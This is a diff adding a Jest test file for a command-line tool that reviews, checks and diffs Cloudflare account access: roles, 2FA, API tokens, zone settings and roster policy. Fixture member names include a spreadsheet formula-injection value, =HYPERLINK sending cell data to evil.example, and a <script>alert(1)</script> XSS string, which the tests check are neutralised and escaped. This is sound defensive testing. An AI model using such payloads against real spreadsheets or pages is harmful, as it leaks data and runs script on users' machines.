@@ -1,0 +1,474 @@
+/**
+ * review, check and diff on small hand-built graphs (test-fixtures/): every
+ * path, including Zero Trust last logins, API tokens, policy grants and zone
+ * settings, whatever the simulator's dataset holds.
+ */
+import fs from 'fs';
+import os from 'os';
+import path from 'path';
+import { runChecks } from './check/checks';
+import { parsePolicy } from './check/policy';
+import { makeReport, renderCheckText } from './check/report';
+import { parseRoster } from './check/roster';
+import { main } from './cli';
+import { diffGraphs } from './diff/diff';
+import { renderDiffMarkdown } from './diff/render';
+import { buildAccessModel, splitList } from './graph/access';
+import { indexGraph, loadGraph } from './graph/load';
+import { renderReview } from './review/render';
+
+const BEFORE = path.join(__dirname, 'test-fixtures', 'before');
+const AFTER = path.join(__dirname, 'test-fixtures', 'after');
+const T0 = Date.parse('2025-06-01T00:00:00Z');
+
+async function cli(argv: string[]) {
+  let stdout = '';
+  let stderr = '';
+  const code = await main(argv, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: {} });
+  return { code, stdout, stderr };
+}
+
+describe('review', () => {
+  test('CSV rows: roles, policy grants (allowed and denied), last login, tokens; formulas neutralised', async () => {
+    const { code, stdout, stderr } = await cli(['review', BEFORE, '--format', 'csv']);
+    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+    expect(stdout.split('\r\n')).toEqual([
+      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last login,Tokens created',
+      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-22T00:00:00Z,' +
+        '"Forgotten export (active, never used); Terraform (active, last used 2025-05-30)"',
+      'Fixture Co,acc1,m2,bob@fixture.example,Bob Zone,accepted,unknown,,' +
+        'Fixture Co (account): Zone Read; fixture.example (zone): Domain DNS (denied DNS Records Write); other.example (zone): denied Domain DNS,' +
+        'never,"Old bot (disabled, last used 2024-09-24)"',
+      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,not a Zero Trust user,',
+      'Fixture Co,acc1,m4,dave@fixture.example,Dave <script>alert(1)</script> Styles,accepted,off,' +
+        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,not a Zero Trust user,',
+      '',
+    ]);
+  });
+
+  test('Markdown: one table per account, pipes escaped', () => {
+    const model = buildAccessModel(loadGraph(BEFORE));
+    model.members[0].name = 'Alice | Admin';
+    const md = renderReview(model, 'md', { graph: 'g' });
+    expect(md.split('\n').slice(0, 10)).toEqual([
+      '# Cloudflare access review',
+      '',
+      'Graph: `g`',
+      '',
+      '4 members in 1 accounts; 2 accepted without 2FA (off or unknown); 1 Super Administrators; 1 pending invitations',
+      '',
+      '## Fixture Co (acc1)',
+      '',
+      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last login | Tokens created |',
+      '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
+    ]);
+    expect(md).toContain(
+      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-22T00:00:00Z | Forgotten export (active, never used); Terraform (active, last used 2025-05-30) |',
+    );
+  });
+
+  test('HTML: one page with nothing external, everything escaped, summary counts', () => {
+    const html = renderReview(buildAccessModel(loadGraph(BEFORE)), 'html', { graph: '<g>' });
+    expect(html).not.toMatch(/<script[^>]*\ssrc=|<link\s|https?:\/\/(?!evil\.example)/);
+    expect(html).not.toContain('<script>alert(1)</script>');
+    expect(html).toContain('Dave &lt;script&gt;alert(1)&lt;/script&gt; Styles');
+    expect(html).toContain('Graph: &lt;g&gt;');
+    expect(html).toContain(
+      "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'\">",
+    );
+    expect(html.match(/<div class="card[^"]*"><b>\d+<\/b>[^<]+<\/div>/g)).toEqual([
+      '<div class="card"><b>4</b>members in 1 accounts</div>',
+      '<div class="card bad"><b>2</b>accepted without 2FA</div>',
+      '<div class="card warn"><b>1</b>Super Administrators</div>',
+      '<div class="card warn"><b>1</b>pending invitations</div>',
+    ]);
+    expect(html.match(/<tr data-account/g)).toHaveLength(4);
+    expect(html).toContain('<td><span class="super">Super Administrator - All Privileges</span></td>');
+  });
+
+  test('last login is "no Zero Trust data" when the account has no Zero Trust users', () => {
+    const graph = loadGraph(BEFORE);
+    const withoutUsers = indexGraph(
+      'g',
+      graph.entities.filter((e) => e._type !== 'cloudflare_access_user'),
+      graph.relationships,
+    );
+    expect(buildAccessModel(withoutUsers).members.map((m) => m.lastLogin)).toEqual([
+      { kind: 'no-data' },
+      { kind: 'no-data' },
+      { kind: 'no-data' },
+      { kind: 'no-data' },
+    ]);
+    expect(buildAccessModel(graph).members.map((m) => m.lastLogin)).toEqual([
+      { kind: 'at', at: T0 - 10 * 24 * 3600 * 1000 },
+      { kind: 'never' },
+      { kind: 'not-a-user' },
+      { kind: 'not-a-user' },
+    ]);
+  });
+
+  test('lists joined with ", " split back, keeping names that contain ", "', () => {
+    const ssl = 'SSL/TLS, Caching, Performance, Page Rules, and Customization';
+    expect(splitList(`DNS, ${ssl}, Analytics`, [ssl])).toEqual(['DNS', ssl, 'Analytics']);
+    expect(splitList(`DNS, ${ssl}`)).toEqual([
+      'DNS',
+      'SSL/TLS',
+      'Caching',
+      'Performance',
+      'Page Rules',
+      'and Customization',
+    ]);
+    expect(splitList(['a', 'b'])).toEqual(['a', 'b']);
+    expect(splitList(undefined)).toEqual([]);
+  });
+});
+
+describe('check', () => {
+  const ROSTER =
+    'email,status,role,department\n' +
+    'Alice@Fixture.example,active,IT Lead,IT\n' +
+    'bob@fixture.example,terminated,,Engineering\n' +
+    'dave@fixture.example,active,Designer,Marketing\n';
+  const POLICY =
+    '{"allowedRoles": {"IT": ["Super Administrator - All Privileges"], "marketing": ["Analytics"]}, "maxSuperAdmins": 0}';
+
+  test('every check, with its offenders', () => {
+    const graph = loadGraph(BEFORE);
+    const policy = parsePolicy(POLICY, 'p.json');
+    const checks = runChecks(buildAccessModel(graph), parseRoster(ROSTER, 'r.csv'), policy, T0);
+    const text = renderCheckText(
+      makeReport({ graph: 'G', roster: 'r.csv', policy: 'p.json', now: T0, settings: policy }, checks),
+    );
+    expect(text.split('\n')).toEqual([
+      'graph-cloudflare check: 6 of 6 checks failed',
+      'graph G, roster r.csv, policy p.json, as of 2025-06-01T00:00:00Z',
+      '',
+      'FAIL  Every member is identified in the roster: 1 found  [4 members with access (accepted or invited) in 1 account]',
+      '      Fixture Co  carol@fixture.example  not in the roster (invitation pending)',
+      '',
+      'FAIL  No access for people the roster marks as terminated or does not list: 2 found  [4 members with access (accepted or invited) in 1 account]',
+      '      Fixture Co  bob@fixture.example    terminated in the roster (line 3), membership accepted',
+      '      Fixture Co  carol@fixture.example  not in the roster, invitation pending',
+      '',
+      "FAIL  Each member's roles are allowed for their roster role or department: 1 found  [2 active roster members with access]",
+      '      Fixture Co  dave@fixture.example  role "SSL/TLS, Caching, Performance, Page Rules, and Customization" not allowed (allowed for role "Designer" / department "Marketing": "Analytics")',
+      '',
+      'FAIL  2FA is on for every member: 2 found  [3 accepted members (pending invitations cannot sign in yet)]',
+      '      Fixture Co  bob@fixture.example   2FA unknown (Cloudflare did not give the user, so not known to be on)',
+      '      Fixture Co  dave@fixture.example  2FA off',
+      '',
+      'FAIL  At most 0 Super Administrators per account: 1 found  [1 account, accepted and invited members]',
+      '      Fixture Co  alice@fixture.example  Super Administrator, membership accepted; Fixture Co has 1 (at most 0)',
+      '',
+      'FAIL  No active API token unused for more than 90 days: 2 found  [3 active tokens]',
+      '      (user token)  -                      token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
+      '      Fixture Co    alice@fixture.example  token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
+      '',
+    ]);
+  });
+
+  test('passing checks, and checks the policy switches off', () => {
+    const graph = loadGraph(AFTER);
+    const roster = parseRoster(
+      'email\nalice@fixture.example\ncarol@fixture.example\ndave@fixture.example\nerin@fixture.example\n',
+      'r.csv',
+    );
+    const policy = parsePolicy('{"require2fa": false, "maxTokenIdleDays": 400}', 'p.json');
+    const checks = runChecks(buildAccessModel(graph), roster, policy, T0);
+    expect(checks.map((c) => [c.id, c.status, c.summary, c.offenders.length])).toEqual([
+      ['identified', 'pass', '4 members with access (accepted or invited) in 1 account', 0],
+      ['leavers', 'pass', '4 members with access (accepted or invited) in 1 account', 0],
+      ['roles', 'skip', 'the policy sets no allowedRoles', 0],
+      ['2fa', 'skip', 'the policy sets require2fa to false', 0],
+      ['super-admins', 'pass', '1 account, accepted and invited members', 0],
+      ['token-idle', 'pass', '3 active tokens', 0],
+    ]);
+  });
+
+  test('the token check is skipped when the api-tokens step did not run', () => {
+    const graph = loadGraph(BEFORE);
+    const noTokens = indexGraph(
+      'g',
+      graph.entities.filter((e) => e._type !== 'cloudflare_api_token'),
+      graph.relationships,
+      { partialTypes: [], stepStatus: new Map([['fetch-api-tokens', 'disabled']]) },
+    );
+    const checks = runChecks(buildAccessModel(noTokens), parseRoster('email\n', 'r.csv'), parsePolicy('{}', 'p'), T0);
+    expect(checks[5]).toEqual({
+      id: 'token-idle',
+      title: 'No active API token unused for more than 90 days',
+      status: 'skip',
+      summary: 'the graph holds no API tokens (the api-tokens area was not collected)',
+      offenders: [],
+    });
+  });
+
+  test('through the CLI: exit 1 on failures, JSON output, --out written whole', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-check-'));
+    try {
+      fs.writeFileSync(path.join(dir, 'roster.csv'), ROSTER);
+      fs.writeFileSync(path.join(dir, 'policy.json'), POLICY);
+      const out = path.join(dir, 'report.json');
+      const result = await cli([
+        'check',
+        BEFORE,
+        '--roster',
+        path.join(dir, 'roster.csv'),
+        '--policy',
+        path.join(dir, 'policy.json'),
+        '--now',
+        '2025-06-01T00:00:00Z',
+        '--format',
+        'json',
+        '--out',
+        out,
+      ]);
+      expect(result).toEqual({
+        code: 1,
+        stdout: '',
+        stderr: `graph-cloudflare: wrote the check report (6 of 6 checks failed) to ${out}\n`,
+      });
+      const report = JSON.parse(fs.readFileSync(out, 'utf8'));
+      expect(report).toMatchObject({ now: '2025-06-01T00:00:00Z', passed: 0, failed: 6, skipped: 0 });
+      expect(report.checks[5].offenders).toEqual([
+        {
+          accountId: '',
+          accountName: '(user token)',
+          email: '',
+          tokenId: 't4',
+          detail: 'token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
+        },
+        {
+          accountId: 'acc1',
+          accountName: 'Fixture Co',
+          email: 'alice@fixture.example',
+          tokenId: 't2',
+          detail: 'token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
+        },
+      ]);
+      expect(fs.readdirSync(dir).sort()).toEqual(['policy.json', 'report.json', 'roster.csv']);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('diff', () => {
+  test('members, roles, 2FA, status, DNS records, tokens and weakened zone settings', () => {
+    const diff = diffGraphs(loadGraph(BEFORE), loadGraph(AFTER));
+    const member = (memberId: string, email: string, status: string, roles: string[]) => ({
+      accountId: 'acc1',
+      accountName: 'Fixture Co',
+      memberId,
+      email,
+      status,
+      roles,
+    });
+    expect(diff).toEqual({
+      old: path.join(BEFORE, 'graph'),
+      new: path.join(AFTER, 'graph'),
+      members: {
+        added: [member('m5', 'erin@fixture.example', 'accepted', ['Administrator'])],
+        removed: [member('m2', 'bob@fixture.example', 'accepted', [])],
+        roleChanges: [
+          {
+            member: member('m1', 'alice@fixture.example', 'accepted', ['Administrator']),
+            added: ['Administrator'],
+            removed: ['Super Administrator - All Privileges'],
+          },
+        ],
+        mfaChanges: [
+          {
+            member: member('m4', 'dave@fixture.example', 'accepted', [
+              'SSL/TLS, Caching, Performance, Page Rules, and Customization',
+            ]),
+            from: 'off',
+            to: 'on',
+          },
+        ],
+        statusChanges: [
+          {
+            member: member('m3', 'carol@fixture.example', 'accepted', ['Administrator']),
+            from: 'pending',
+            to: 'accepted',
+          },
+        ],
+      },
+      dnsRecords: {
+        added: [
+          { id: 'r4', zone: 'other.example', name: 'mail.other.example', type: 'MX', content: 'mx.other.example' },
+        ],
+        removed: [{ id: 'r2', zone: 'fixture.example', name: 'fixture.example', type: 'TXT', content: 'v=spf1 -all' }],
+        changed: [
+          {
+            record: {
+              id: 'r1',
+              zone: 'fixture.example',
+              name: 'www.fixture.example',
+              type: 'A',
+              content: '203.0.113.9',
+            },
+            changes: [
+              { field: 'content', from: '203.0.113.5', to: '203.0.113.9' },
+              { field: 'proxied', from: true, to: false },
+            ],
+          },
+        ],
+      },
+      tokens: {
+        created: [
+          { id: 't5', name: 'New deploy', status: 'active', accountId: 'acc1', createdBy: 'carol@fixture.example' },
+        ],
+        revoked: [
+          {
+            token: {
+              id: 't3',
+              name: 'Old bot',
+              status: 'disabled',
+              accountId: 'acc1',
+              createdBy: 'bob@fixture.example',
+            },
+            reason: 'deleted (was disabled)',
+          },
+          {
+            token: {
+              id: 't1',
+              name: 'Terraform',
+              status: 'disabled',
+              accountId: 'acc1',
+              createdBy: 'alice@fixture.example',
+            },
+            reason: 'status active → disabled',
+          },
+        ],
+      },
+      zones: {
+        weakened: [
+          {
+            zoneId: 'z1',
+            zone: 'fixture.example',
+            accountId: 'acc1',
+            changes: [
+              { field: 'sslMode', from: 'strict', to: 'flexible' },
+              { field: 'minTlsVersion', from: '1.2', to: '1.0' },
+              { field: 'alwaysUseHttps', from: true, to: false },
+              { field: 'hstsEnabled', from: true, to: false },
+              { field: 'dnssecStatus', from: 'active', to: 'pending' },
+            ],
+          },
+        ],
+      },
+      notes: [],
+    });
+    // other.example got stronger (full → strict, DNSSEC on): not a weakening.
+  });
+
+  test('the same graph twice: no changes', async () => {
+    const { code, stdout } = await cli(['diff', BEFORE, BEFORE]);
+    expect(code).toBe(0);
+    expect(stdout).toBe(
+      `# Cloudflare changes\n\nFrom \`${path.join(BEFORE, 'graph')}\` to \`${path.join(BEFORE, 'graph')}\`: no changes.\n`,
+    );
+  });
+
+  test('Markdown', () => {
+    const md = renderDiffMarkdown(diffGraphs(loadGraph(BEFORE), loadGraph(AFTER)));
+    expect(md).toContain('12 changes.');
+    expect(md).toContain(
+      '- fixture.example (z1): sslMode `strict` → `flexible`, minTlsVersion `1.2` → `1.0`, alwaysUseHttps `true` → `false`, hstsEnabled `true` → `false`, dnssecStatus `active` → `pending`',
+    );
+    expect(md).toContain(
+      '- alice@fixture.example (Fixture Co, m1): + Administrator; − Super Administrator - All Privileges',
+    );
+    expect(md).toContain(
+      '- "Terraform" (t1, created by alice@fixture.example, account acc1): status active → disabled',
+    );
+  });
+
+  test('parts one graph did not collect are not compared, and say so', () => {
+    const before = loadGraph(BEFORE);
+    const after = loadGraph(AFTER);
+    const noTokens = indexGraph(after.dir, after.entities, after.relationships, {
+      partialTypes: [],
+      stepStatus: new Map([
+        ['fetch-accounts', 'success'],
+        ['fetch-account-members', 'success'],
+        ['fetch-zones', 'success'],
+        ['fetch-dns-records', 'success'],
+        ['fetch-api-tokens', 'disabled'],
+      ]),
+    });
+    const diff = diffGraphs(before, noTokens);
+    expect(diff.notes).toEqual(['API tokens not compared: not collected in the new graph.']);
+    expect(diff.tokens).toEqual({ created: [], revoked: [] });
+    expect(diff.members.added).toHaveLength(1);
+  });
+});
+
+describe('usage and input errors', () => {
+  test('exit 2 with a message naming the problem', async () => {
+    const missing = path.join(os.tmpdir(), 'graph-cloudflare-no-such-folder');
+    expect(await cli(['review', missing])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr: `No collected graph at ${missing}: the folder does not exist. Run \`j1-integration collect\` first (it writes .j1-integration/graph), or give the graph folder as the first argument.\n`,
+    });
+    expect(await cli(['review', BEFORE, '--format', 'pdf'])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr:
+        'graph-cloudflare review: --format must be one of md, csv, html, not "pdf"\nRun `graph-cloudflare review --help` for usage.\n',
+    });
+    expect(await cli(['check', BEFORE])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr: 'graph-cloudflare check: --roster FILE.csv is required\nRun `graph-cloudflare check --help` for usage.\n',
+    });
+    expect((await cli(['check', BEFORE, '--roster', 'r.csv', '--now', 'yesterday'])).stderr).toBe(
+      'graph-cloudflare check: --now must be an ISO 8601 time such as 2025-01-31T00:00:00Z, not "yesterday"\nRun `graph-cloudflare check --help` for usage.\n',
+    );
+    expect((await cli(['check', BEFORE, '--roster', path.join(BEFORE, 'nope.csv')])).stderr).toBe(
+      `${path.join(BEFORE, 'nope.csv')}: no such roster file\n`,
+    );
+    expect((await cli(['diff', BEFORE])).stderr).toBe(
+      'graph-cloudflare diff: needs OLD_GRAPH_DIR and NEW_GRAPH_DIR, got 1 folder(s)\nRun `graph-cloudflare diff --help` for usage.\n',
+    );
+    expect((await cli(['review', BEFORE, AFTER])).code).toBe(2);
+    const unknown = await cli(['reveiw']);
+    expect(unknown.code).toBe(2);
+    expect(unknown.stderr).toMatch(/^graph-cloudflare unknown command "reveiw"\n\nUsage: graph-cloudflare <command>/);
+  });
+
+  test('a folder without graph files', async () => {
+    const empty = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-empty-'));
+    try {
+      expect((await cli(['review', empty])).stderr).toBe(
+        `No collected graph in ${empty}: it holds no entities/*.json or relationships/*.json files. Run \`j1-integration collect\` first (it writes .j1-integration/graph), or give the graph folder as the first argument.\n`,
+      );
+    } finally {
+      fs.rmSync(empty, { recursive: true, force: true });
+    }
+  });
+
+  test('--help for the CLI and each command', async () => {
+    const top = await cli(['--help']);
+    expect(top.code).toBe(0);
+    expect(top.stdout).toContain('  review [GRAPH_DIR]');
+    expect(top.stdout).toContain('Exit codes: 0 ok, 1 a check failed, 2 usage or input error.');
+    for (const command of ['review', 'check', 'diff']) {
+      const help = await cli([command, '--help']);
+      expect(help.code).toBe(0);
+      expect(help.stdout.startsWith(`Usage: graph-cloudflare ${command} `)).toBe(true);
+    }
+    expect((await cli([])).code).toBe(2);
+  });
+
+  test('--out into a folder that does not exist', async () => {
+    const out = path.join(os.tmpdir(), 'graph-cloudflare-no-such-folder', 'x.md');
+    const result = await cli(['review', BEFORE, '--out', out]);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(
+      new RegExp(`^${out.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: cannot write the review \\(ENOENT`),
+    );
+  });
+});
